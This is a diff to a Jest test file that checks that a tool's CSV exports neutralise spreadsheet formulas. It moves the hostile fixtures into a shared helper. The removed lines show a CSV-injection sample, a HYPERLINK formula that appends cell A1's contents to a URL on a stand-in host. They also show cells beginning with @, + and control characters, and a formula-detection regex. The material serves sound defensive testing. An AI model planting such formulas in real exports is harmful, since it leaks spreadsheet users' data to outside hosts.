@@ -3,16 +3,20 @@ import os from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { runCommand } from '../helpers/cli';
+import { FORMULA, HOSTILE_INPUT as INPUT, sharedSite } from '../helpers/shared-site';
 
 /**
  * The files the command line writes (`npm run export`, `npm run export:site`) neutralise
  * spreadsheet formulas, and the exchange files still go round: exported, imported into an empty
- * database and exported again, they are the same bytes (README.md#formulas-in-csv-files).
+ * database and exported again, they are the same bytes (README.md#formulas-in-csv-files). The static
+ * site is the run's one export (test/helpers/shared-site.ts), of the demonstration data with the
+ * same hand-made cells imported on top.
  */
 
-jest.setTimeout(400_000);
+// The run's static export (test/helpers/shared-site.ts) takes minutes on a busy machine.
+jest.setTimeout(900_000);
 
-function run(script: 'import' | 'export' | 'export-site', args: string[], databasePath: string) {
+function run(script: 'import' | 'export', args: string[], databasePath: string) {
   const { status, stdout, stderr } = runCommand(
     script,
     args,
@@ -22,7 +26,6 @@ function run(script: 'import' | 'export' | 'export-site', args: string[], databa
   return { status, stdout, stderr };
 }
 
-const FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1,"Cliquez ici")';
 const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;
 
@@ -31,18 +34,6 @@ const formulaCells = (csv: string) =>
   cellsOf(csv)
     .flat()
     .filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
-
-/** Hand-made files as a user writes them: a leading tab or CR only survives behind the prefix, and `''=` is a typed `'=`. */
-const INPUT: Record<string, string> = {
-  'states.csv': `iso3,name_fr,name_en,party\nAFG,"'\rAfghanistan",Afghanistan,yes\nKHM,@Cambodge,Cambodia,yes\n`,
-  'answers.csv':
-    'year,state,indicator,answer,source,note\n' +
-    `2025,AFG,10.1,yes,"${FORMULA.replace(/"/g, '""')}",-5 mines détruites\n` +
-    `2025,KHM,10.1,no,+33 1 23 45,"'\tnote tabulée"\n` +
-    `2025,COL,10.1,yes,''=une apostrophe tapée,'sans formule\n` +
-    '2026,COL,10.1,yes,,\n',
-  'figures.csv': 'year,indicator,value,denominator\n2025,5.3,12,\n2026,5.3,4.5,\n',
-};
 
 const EXCHANGE = ['states.csv', 'populations.csv', 'reports.csv', 'answers.csv', 'figures.csv'];
 
@@ -85,11 +76,11 @@ describe('CSV files written by the command line', () => {
     for (const name of EXCHANGE) expect(fs.readFileSync(path.join(second, name), 'utf8')).toBe(files[name]);
   });
 
-  test('npm run export:site: every CSV of the static copy is neutralised; a fall stays a negative number', () => {
-    const site = path.join(tmp, 'site');
-    const result = run('export-site', [site], path.join(tmp, 'a.sqlite'));
-    expect(result.stderr).toBe('');
-    expect(result.status).toBe(0);
+  test('npm run export:site: every CSV of the static copy is neutralised; a fall stays a negative number', async () => {
+    const { dir: site, imported, exported } = await sharedSite();
+    expect(imported.ok).toBe(true);
+    expect(exported.stderr).toBe('');
+    expect(exported.status).toBe(0);
     const csvFiles = (fs.readdirSync(site, { recursive: true }) as string[]).filter((f) => f.endsWith('.csv'));
     expect(csvFiles.length).toBeGreaterThan(10);
     for (const name of csvFiles) expect([name, formulaCells(fs.readFileSync(path.join(site, name), 'utf8'))]).toEqual([name, []]);
